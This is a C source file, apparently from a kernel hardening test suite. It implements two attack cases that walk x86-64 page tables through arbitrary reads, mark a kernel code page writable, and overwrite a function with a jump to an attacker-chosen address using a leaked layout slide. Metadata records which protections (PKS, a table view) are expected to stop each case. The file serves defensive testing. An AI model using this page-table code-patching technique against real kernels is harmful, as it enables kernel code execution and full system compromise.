/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Page tables: the attacker walks them, by arbitrary reads through the direct map, makes the page of a function
 * writable, and writes a jump there. He writes the entry where he has read it, or where the kernel writes it.
 */
#include "attacks.h"

#define ENTRY_WRITE UINT64_C(2)
#define ENTRY_LARGE UINT64_C(0x80)
#define ENTRY_ADDRESS UINT64_C(0x000ffffffffff000)

static NOINLINE long tick(long value)
{
	return attack_opaque(value) + 4;
}

static bool benign(const struct attack *attack)
{
	return tick(2) == 6;
}

static phys_t entry_at(uint64_t table, uintptr_t virt, int level)
{
	return (table & ENTRY_ADDRESS) + (virt >> (3 + 9 * level) & 511) * 8;
}

static void make_writable(uint64_t root, uintptr_t virt, bool in_view)
{
	uint64_t entry = root;
	phys_t at = 0;

	for (int level = 4; level >= 1; level--) {
		at = entry_at(entry, virt, level);
		entry = attack_read64(attack_direct_map(at));
		if (level < 4 && entry & ENTRY_LARGE)
			break;
	}
	attack_write64(in_view ? X86_ALIAS_AREA + at : attack_direct_map(at), entry | ENTRY_WRITE);
}

static void patch(const struct attack *attack, bool in_view)
{
	uint8_t code[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 }; /* movabs $goal, %rax; jmp *%rax */
	const uintptr_t slide = attack_leaked_slide();
	uint64_t goal = attack_linked_code(attack_goal) + slide;
	uintptr_t at = attack_linked_code(tick) + slide;
	uint64_t root = attack_read64(attack_linked(&arch_kernel_pagetable) + slide);

	memcpy(code + 2, &goal, sizeof(goal));
	attack_primitive(attack);
	make_writable(root, at, in_view);
	make_writable(root, at + sizeof(code) - 1, in_view);
	attack_write(at, code, sizeof(code));
	tick(1);
}

static void run(const struct attack *attack)
{
	patch(attack, false);
}

static void run_in_view(const struct attack *attack)
{
	patch(attack, true);
}

ATTACK(page_table, .family = "page tables", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "pks tableview", .about = "an entry of the page tables makes code writable", .run = run,
       .benign = benign);
ATTACK(page_table_view, .family = "page tables", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "tableview", .aims_at = "tableview",
       .about = "the same, in the view that the kernel writes them in", .run = run_in_view, .benign = benign);
